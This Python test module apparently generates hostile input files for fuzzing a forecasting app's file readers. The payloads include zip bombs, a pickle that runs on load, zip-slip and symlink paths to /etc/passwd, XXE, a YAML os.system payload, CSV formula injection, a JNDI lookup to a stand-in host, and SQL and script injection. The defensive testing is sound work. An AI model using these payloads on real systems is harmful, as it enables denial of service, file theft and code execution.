"""Files as an enemy would write them, made by code from a seed: one entry a file, with what
opens it and whether it must be refused.
"""

from __future__ import annotations

import bz2
import gzip
import io
import json
import lzma
import os
import pickle
import random
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from datetime import date, timedelta
from functools import cache
from pathlib import Path
from typing import Any

import numpy as np
from fabricated import walk
from price_files import xlsx

from forecasting.config import RunConfig
from forecasting.series import Panel

TINY = RunConfig().changed(input_size=8, horizon=4, hidden_size=4, epochs=1)
_DAY = date(2020, 1, 1)
Make = bytes | Callable[[Path], object]


@dataclass(frozen=True)
class Hostile:
    """One file of an enemy.

    Attributes
    ----------
    kind : str
        What opens it: a key of ``hostile_opener.OPENERS``.
    name : str
        What is wrong with it.
    make : bytes or callable
        Its content, or what writes it into a folder and returns another path to be opened, or None.
    file : str
        Its name in that folder.
    refused : bool
        Whether it must be refused; otherwise it may be opened as long as nothing happens.
    """

    kind: str
    name: str
    make: Make
    file: str = "f.csv"
    refused: bool = True

    def put(self, folder: Path) -> str:
        """Write the file and return what is to be opened."""
        path = folder / self.file
        if isinstance(self.make, bytes):
            path.write_bytes(self.make)
            return str(path)
        return str(self.make(folder) or path)


class Canary:
    """Makes a file where a pickle is loaded that holds one."""

    def __reduce__(self) -> tuple[Any, ...]:
        return open, ("canary", "w")


@cache
def panel() -> Panel:
    return Panel((walk("AAA", 200),))


def good_csv(rows: int = 60, symbol: str = "") -> bytes:
    lines = ["Date,Open,High,Low,Close,Volume" + (",Symbol" if symbol else "")]
    for day in range(rows):
        price = 100 + day % 7
        lines.append(
            f"{_DAY + timedelta(day)},{price},{price + 2},{price - 2},{price + 1},1000"
            + (f",{symbol}" if symbol else "")
        )
    return "\n".join(lines).encode()


def pickles() -> Iterator[tuple[str, bytes]]:
    for protocol in range(6):
        yield f"pickle protocol {protocol}", pickle.dumps(Canary(), protocol)


# Packing
# ----------------------------------------------------------------------------------------------------------------------------


def zipped(*members: tuple[str, bytes], mode: int = 0, kind: int = zipfile.ZIP_DEFLATED) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", kind) as archive:
        for name, data in members:
            info = zipfile.ZipInfo(name)
            info.compress_type, info.external_attr = kind, mode << 16
            archive.writestr(info, data)
    return out.getvalue()


def deflated(chunk: bytes, times: int) -> tuple[bytes, int]:
    """Return the deflate stream of a chunk many times over, and the CRC of what it unpacks to."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    once = packer.compress(chunk) + packer.flush(zlib.Z_FULL_FLUSH)
    crc = 0
    for _ in range(times):
        crc = zlib.crc32(chunk, crc)
    return once * times + packer.flush(), crc


def zip_bomb(
    name: str,
    chunk: bytes,
    times: int,
    before: tuple[tuple[str, bytes], ...] = (),
    lie: int | None = None,
) -> bytes:
    """Return a zip archive whose last member unpacks to ``chunk * times``; it may state another
    size.
    """
    data, crc = deflated(chunk, times)
    start, size = zipped(*before), len(chunk) * times if lie is None else lie
    old = io.BytesIO(start)
    with zipfile.ZipFile(old) as archive:
        offset, count = archive.start_dir, len(archive.infolist())
    directory, raw = start[offset:-22], name.encode()
    local = (
        struct.pack("<4s5H3I2H", b"PK\3\4", 20, 0, 8, 0, 33, crc, len(data), size, len(raw), 0)
        + raw
    )
    entry = (
        struct.pack(
            "<4s6H3I5H2I",
            b"PK\1\2",
            20,
            20,
            0,
            8,
            0,
            33,
            crc,
            len(data),
            size,
            len(raw),
            0,
            0,
            0,
            0,
            0,
            offset,
        )
        + raw
    )
    body = start[:offset] + local + data
    end = struct.pack(
        "<4s4H2IH", b"PK\5\6", 0, 0, count + 1, count + 1, len(directory + entry), len(body), 0
    )
    return body + directory + entry + end


PACKERS: dict[str, Callable[[bytes], bytes]] = {
    "gz": gzip.compress, "bz2": bz2.compress, "xz": lzma.compress,
    "zip": lambda data: zipped(("f.csv", data)),
}  # fmt: skip


def bombs() -> Iterator[Hostile]:
    """Small files that unpack to 640 MB, of what a reader may choke on in different places."""
    line = b"2020-01-01,1.25,1.5,1,1.25,100\n"
    contents = {
        "zeros": bytes(2**20), "blank lines": b"\n" * 2**20, "one line": b"7" * 2**20,
        "commas": b"," * 2**20, "quotes": b'"' * 2**20,
        "one bar": line * (2**20 // len(line)), "spaces": b" " * 2**20,
    }  # fmt: skip
    for what, chunk in contents.items():
        block = chunk * 16
        for packing in ("gz", "bz2", "xz"):
            once = PACKERS[packing](block)
            yield Hostile("prices", f"{packing} bomb of {what}", once * 40, f"f.csv.{packing}")
        yield Hostile("prices", f"zip bomb of {what}", zip_bomb("f.csv", chunk, 640), "f.zip")
        yield Hostile(
            "prices",
            f"zip bomb of {what} behind a good table",
            zip_bomb("f.csv", good_csv() + chunk, 300),
            "f.zip",
        )
    yield Hostile(
        "prices",
        "zip bomb that states ten bytes",
        zip_bomb("f.csv", line * 4096, 5000, lie=10),
        "f.zip",
    )
    data = good_csv()
    for depth in range(60):
        data = zipped((f"{depth}.zip", data)) if depth % 2 else gzip.compress(data)
    yield Hostile("prices", "packed sixty times", data, "f.zip")
    yield Hostile(
        "prices", "packed for each other", zipped(("f.csv.gz", gzip.compress(good_csv()))), "f.zip"
    )
    many = zipped(*((f"{n}.csv", b"") for n in range(2000)), kind=zipfile.ZIP_STORED)
    yield Hostile("prices", "zip of 2,000 files", many, "f.zip")
    entry = (
        struct.pack("<4s6H3I5H2I", b"PK\1\2", 20, 20, 0, 0, 0, 33, 0, 0, 0, 5, 0, 0, 0, 0, 0, 0)
        + b"a.csv"
    )
    local = struct.pack("<4s5H3I2H", b"PK\3\4", 20, 0, 0, 0, 33, 0, 0, 0, 5, 0) + b"a.csv"
    end = struct.pack(
        "<4s4H2IH", b"PK\5\6", 0, 0, 65535, 65535, len(entry) * 900_000, len(local), 0
    )
    for kind in ("prices", "model", "training"):
        yield Hostile(
            kind,
            "zip of 900,000 files",
            lambda folder, d=local + entry * 900_000 + end: put(folder / "f.zip", d),
            "f.zip",
        )


def put(path: Path, data: bytes) -> Path:
    path.write_bytes(data)
    return path


# Prices
# -----------------------------------------------------------------------------------------------------------------------------


def price_files() -> Iterator[Hostile]:
    yield from bombs()
    for what, data in pickles():
        for suffix in ("csv", "parquet", "xlsx"):
            yield Hostile("prices", f"{what} as .{suffix}", data, f"f.{suffix}")
        for packing, pack in PACKERS.items():
            yield Hostile("prices", f"{what} in {packing}", pack(data), f"f.csv.{packing}")
    for name in (
        "../../x.csv",
        "/etc/cron.d/x",
        "..\\..\\x.csv",
        "C:\\x.csv",
        "a/../../../x.csv",
        "\x00.csv",
        "x.csv/",
        "con",
        ".",
    ):
        yield Hostile(
            "prices", f"zip slip {name!r}", zipped((name, good_csv())), "f.zip", refused=False
        )
        yield Hostile(
            "prices",
            f"symlink in a zip {name!r}",
            zipped((name, b"/etc/passwd"), mode=0o120777),
            "f.zip",
        )
    good = zipped(("f.csv", good_csv()))
    lying = bytearray(good)
    struct.pack_into("<I", lying, lying.rindex(b"PK\1\2") + 24, 7)
    yield Hostile("prices", "zip that states seven bytes", bytes(lying), "f.zip", refused=False)
    for flag, what in ((1, "encrypted"), (64, "strongly encrypted")):
        locked = bytearray(good)
        struct.pack_into("<H", locked, locked.rindex(b"PK\1\2") + 8, flag)
        struct.pack_into("<H", locked, 6, flag)
        yield Hostile("prices", f"{what} zip", bytes(locked), "f.zip")
    for method in (1, 12, 99):
        other = bytearray(good)
        struct.pack_into("<H", other, other.rindex(b"PK\1\2") + 10, method)
        struct.pack_into("<H", other, 8, method)
        yield Hostile("prices", f"zip with method {method}", bytes(other), "f.zip")
    yield Hostile(
        "prices",
        "doubled names",
        zipped(("f.csv", good_csv()), ("g.csv", b"x")).replace(b"g.csv", b"f.csv"),
        "f.zip",
    )
    for share in (0.2, 0.5, 0.9, 0.99):
        for packing, pack in PACKERS.items():
            data = pack(good_csv(500))
            yield Hostile(
                "prices",
                f"{packing} cut at {share:.0%}",
                data[: int(len(data) * share)],
                f"f.{packing}",
                refused=packing != "bz2",
            )
    yield from texts()
    yield from tables()
    yield from places()


def texts() -> Iterator[Hostile]:
    """Text that is meant to blow up a parser, a terminal, a spreadsheet or a page."""
    head = b"Date,Close\n"
    rows = [f"{_DAY + timedelta(day)}," for day in range(40)]

    def cells(*values: str) -> bytes:
        return head + "\n".join(
            row + values[index % len(values)] for index, row in enumerate(rows)
        ).encode("utf-8", "surrogatepass")

    yield Hostile("prices", "10^8 columns", b"," * 10**8)
    yield Hostile(
        "prices",
        "10^7 named columns",
        b"Date," + b"c," * 10**7 + b"\n2020-01-01" + b",1" * 10**7 + b"\n",
    )
    yield Hostile("prices", "a line of 200 MB", head + b"2020-01-01," + b"1" * 200 * 2**20)
    yield Hostile(
        "prices",
        "a line of 200 MB after good ones",
        good_csv(20_000) + b"\n2020-01-01," + b"1" * 200 * 2**20,
    )
    yield Hostile("prices", "cells of 900 kB", cells("1" * 900_000))
    yield Hostile(
        "prices", "100,000 quotes", head + b'"' * 100_001 + b"\n" + good_csv(), refused=False
    )
    yield Hostile("prices", "quotes that never close", head + b'"2020-01-01,1\n' * 10_000)
    yield Hostile("prices", "NUL bytes", good_csv().replace(b"100", b"1\x000"))
    yield Hostile("prices", "only NUL bytes", bytes(5000))
    yield Hostile(
        "prices",
        "20,000 symbols",
        b"Date,Symbol,Close\n" + b"".join(b"2020-01-01,S%d,5\n" % n for n in range(20_000)),
    )
    for bom in (
        b"\xef\xbb\xbf",
        b"\xff\xfe",
        b"\xfe\xff",
        b"\xff\xfe\0\0",
        b"\0\0\xfe\xff",
        b"+/v8-",
        b"\x0e\xfe\xff",
    ):
        yield Hostile(
            "prices", f"byte order mark {bom!r} before other text", bom + good_csv(), refused=False
        )
        yield Hostile("prices", f"byte order mark {bom!r} alone", bom)
        yield Hostile(
            "prices",
            f"byte order marks {bom!r} everywhere",
            good_csv().replace(b"\n", b"\n" + bom),
            refused=False,
        )
    yield Hostile(
        "prices",
        "lone surrogates in UTF-16",
        b"\xff\xfe" + (good_csv().decode() + "\n").encode("utf-16-le") + b"\x00\xd8" * 40,
        refused=False,
    )
    yield Hostile("prices", "lone surrogates in UTF-8", cells("1\ud800"))
    yield Hostile(
        "prices",
        "overlong UTF-8",
        good_csv().replace(b"/", b"\xc0\xaf").replace(b"Close", b"Cl\xc1\xafse"),
        refused=False,
    )
    numbers = (
        "1e99999",
        "-1e99999",
        "9" * 5000,
        "0." + "0" * 5000 + "1",
        "nan",
        "inf",
        "-inf",
        "0x1p1023",
        "1e-400",
        "1_000",
        "1" * 309,
    )
    for number in numbers:
        yield Hostile("prices", f"every close is {number[:12]}", cells(number), refused=False)
        yield Hostile(
            "prices",
            f"one close is {number[:12]}",
            cells("5", "6", "7", "8", number),
            refused=False,
        )
    for day in (
        "0000-00-00",
        "9999-12-31",
        "10000-01-01",
        "-0001-01-01",
        "99999999999999999999",
        "1e300",
        "2020-13-45",
        "292278994-08-17",
        "0001-01-01",
    ):
        yield Hostile(
            "prices",
            f"every date is {day}",
            "\n".join(["Date,Close", *(f"{day},{n}" for n in range(1, 50))]).encode(),
            refused=False,
        )
        yield Hostile(
            "prices",
            f"one date is {day}",
            good_csv() + f"\n{day},1,2,1,1,5".encode(),
            refused=False,
        )
    for symbol in ("=cmd|' /C calc'!A0", "+1+1", "-1", "@SUM(A1)", "<img src=file:///etc/passwd>",
        "<script>alert(1)</script>", "\x1b]0;owned\x07\x1b[2J",
                   "A\u202egpj.exe", "A" * 100_000, "a\r\nSet-Cookie: x", "{{7*7}}",
                       "${jndi:ldap://h/a}", "%s%s%n", "' OR 1=1 --", "../../x", "\u2028",
                           "[red]x[/]"):  # fmt: skip
        quoted = '"' + symbol.replace("\r\n", " ") + '"'
        yield Hostile("prices", f"the symbol {symbol[:20]!r}", good_csv(60, quoted), refused=False)
        yield Hostile(
            "prices",
            f"columns called {symbol[:20]!r}",
            good_csv().replace(b"Volume", quoted.encode()),
            refused=False,
        )
        yield Hostile("prices", f"no table but {symbol[:20]!r}", (symbol + "\n").encode() * 20)
    for what, data in {
        "nested JSON": b"[" * 10**6, "nested JSON objects": b'{"a":' * 10**6,
            "an HTML page": b"<html><img src=x onerror=alert(1)>" * 999,
        "XML with an entity": b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
        "a PDF": b"%PDF-1.7" + bytes(999),
        "a PNG of 10^9 by 10^9": b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR" + b"\x3b\x9a\xca\0" * 2,
        "a shell script": b"#!/bin/sh\ntouch /tmp/x\n" * 9, "a program": b"\x7fELF" + bytes(999),
        "a DLL": b"MZ" + bytes(999), "a class": b"\xca\xfe\xba\xbe" + bytes(99),
        "an object array of NumPy": npy(np.array([Canary()], object)),
        "SQLite": b"SQLite format 3\0" + bytes(999),
        "YAML": b"!!python/object/apply:os.system ['x']\n" * 9,
        "HDF5": b"\x89HDF\r\n\x1a\n" + bytes(99), "Arrow": b"ARROW1\0\0" + bytes(99),
        "7-Zip": b"7z\xbc\xaf\x27\x1c" + bytes(99), "RAR": b"Rar!\x1a\x07" + bytes(99),
        "Zstandard": b"\x28\xb5\x2f\xfd" + bytes(99), "tar": b"../../x" + bytes(93) + bytes(412),
        "one byte": b"x", "a new line": b"\n", "Feather": b"FEA1" + bytes(99),
        "a shortcut": b"[InternetShortcut]\nURL=http://h/x\n", "TOML": b"a = " + b"[" * 10**5,
    }.items():  # fmt: skip
        yield Hostile("prices", what, data)


def npy(array: np.ndarray[Any, Any]) -> bytes:
    out = io.BytesIO()
    np.save(out, array, allow_pickle=True)
    return out.getvalue()


def places() -> Iterator[Hostile]:
    """Names that are no files of this computer, or none that may be opened."""

    def at(reference: str) -> Callable[[Path], str]:
        return lambda _folder: reference

    addresses = ("http://127.0.0.1:9/x.csv", "https://h/x.csv.gz", "ftp://h/x.csv",
        "file:///etc/passwd", "s3://b/k.parquet", "gs://b/k", "jar:file:///x!/y",
                 "zip://x.zip::y.csv", "data://text/csv,a", "smb://h/s/x.csv", "hdfs://h/x",
                 "HTTP://h/x", "sftp://h/x", "memory://x", "github://a:b@c/x",
                 "file:/etc/passwd")  # fmt: skip
    unc = (
        "\\\\h\\s\\x.csv",
        "\\\\?\\C:\\x.csv",
        "\\\\.\\PhysicalDrive0",
        "\\\\h@SSL\\DavWWWRoot\\x.csv",
        "\\\\?\\UNC\\h\\s\\x.csv",
    )
    odd = (
        "a\0b.csv",
        "x" * 5000,
        "/".join(["d" * 200] * 30),
        "~nobody/x.csv",
        "CON",
        "NUL.csv",
        "x.csv:stream",
        "yahoo:\n",
        "sample:../../x",
        "sample:" + "x" * 9999,
        "yahoo:" + "A" * 5000,
        "yahoo:../../etc/passwd",
    )
    for reference in (*addresses, *unc, *odd):
        yield Hostile("prices", f"the name {reference[:40]!r}", at(reference))
    devices = (
        "/dev/zero",
        "/dev/random",
        "/dev/full",
        "/dev/null",
        "/dev/stdin",
        "/proc/self/mem",
        "/proc/kcore",
        "/proc/self/fd/0",
        "/dev",
        "/",
    )
    for kind in ("prices", "model", "training", "project", "config", "watchlist", "folds"):
        for device in devices:
            if not (kind == "config" and device == "/dev/stdin"):
                yield Hostile(kind, f"the device {device}", at(device))
        yield Hostile(kind, "a named pipe", pipe)
        yield Hostile(kind, "a link to itself", _loop)
        yield Hostile(kind, "a link to a pipe", lambda folder: _link(folder, pipe(folder)))
        yield Hostile(kind, "a link to nowhere", lambda folder: _link(folder, folder / "nowhere"))
        yield Hostile(
            kind,
            "a name that is no text",
            lambda folder: put(folder / os.fsdecode(b"\xff\xfe.csv"), b"x"),
        )
        yield Hostile(kind, "an empty file", b"")
        yield Hostile(kind, "a hole of 900 GB", _hole)
    yield Hostile(
        "prices",
        "a good table of a name that is no text",
        lambda folder: put(folder / os.fsdecode(b"a\xff.csv"), good_csv()),
    )
    for name in (
        "x.csv.gz",
        "x.zip",
        "x.parquet",
        "x.xlsx",
        "x.bz2",
        "x.pkl",
        "x.html",
        "=1+1.csv",
        "<b>.csv",
        "\x1b[2J.csv",
        "a\nb.csv",
        "-rf",
        "A" * 240 + ".csv",
    ):
        yield Hostile(
            "prices",
            f"a good table called {name[:20]!r}",
            lambda folder, n=name: put(folder / n, good_csv()),
            refused=False,
        )


def pipe(folder: Path) -> Path:
    os.mkfifo(folder / "pipe")
    return folder / "pipe"


def _loop(folder: Path) -> Path:
    (folder / "loop").symlink_to(folder / "loop")
    return folder / "loop"


def _link(folder: Path, target: Path) -> Path:
    (folder / "link.csv").symlink_to(target)
    return folder / "link.csv"


def _hole(folder: Path) -> Path:
    with (folder / "hole").open("wb") as file:
        file.truncate(900 * 2**30)
    return folder / "hole"


def tables() -> Iterator[Hostile]:
    from hostile_documents import databases, documents, feather_files
    from hostile_tables import parquet_files, workbooks

    yield from parquet_files()
    yield from workbooks()
    yield from documents()
    yield from feather_files()
    yield from databases()


def broken(data: bytes, seed: int, count: int) -> Iterator[tuple[str, bytes]]:
    """Yield a file with some of its bytes changed, cut out or repeated."""
    rng = random.Random(seed)
    for number in range(count):
        mutant = bytearray(data)
        for _ in range(rng.randint(1, 6)):
            index, kind = rng.randrange(len(mutant)), rng.randrange(4)
            if kind == 0:
                mutant[index] = rng.randrange(256)
            elif kind == 1:
                mutant[index : index + 4] = struct.pack(
                    "<I", rng.choice([0, 2**31, 2**32 - 1, 2**16])
                )
            elif kind == 2:
                del mutant[index : index + rng.randint(1, 40)]
            else:
                mutant[index:index] = mutant[index : index + 40]
        yield f"mutant {number}", bytes(mutant)


def corpus() -> tuple[Hostile, ...]:
    """Return all files, in a fixed order."""
    from hostile_models import kept_files, model_files

    return (*price_files(), *model_files(), *kept_files())


def _no_limits() -> None:
    from forecasting.sources.files import container

    container.MAX_BYTES, container.MAX_RATIO = 2**40, 10**9


def _trusting_bundle() -> None:
    from forecasting.training import trained_network

    trained_network.read_bundle = lambda path: pickle.loads(Path(path).read_bytes())


def _any_file() -> None:
    from forecasting.files import bounded_read

    bounded_read.regular_file = lambda path: path


#: What is taken out, by name, so that the checks can be seen to fail without it.
PROTECTIONS: dict[str, Callable[[], None]] = {
    "limits": _no_limits, "bundle": _trusting_bundle, "ordinary files": _any_file,
}  # fmt: skip

__all__ = ["PROTECTIONS", "TINY", "Hostile", "corpus", "json", "xlsx"]
